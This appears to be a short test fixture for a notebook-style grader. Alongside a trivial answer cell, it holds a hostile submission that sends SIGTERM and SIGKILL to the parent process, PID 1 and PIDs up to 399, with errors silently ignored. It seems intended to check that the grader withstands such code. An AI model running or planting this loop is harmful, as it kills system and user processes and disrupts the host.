# Sends signals to every process that there may be.
# expected: 1.1=4 1.2=0 1.3=0

# %% id="answer-1.1-a"
def double(value):
    return 2 * value

# %% id="answer-1.2-a"
import os
import signal

for process in (os.getppid(), 1, *range(2, 400)):
    if process != os.getpid():
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(process, number)
            except OSError:
                pass
total = 0.0
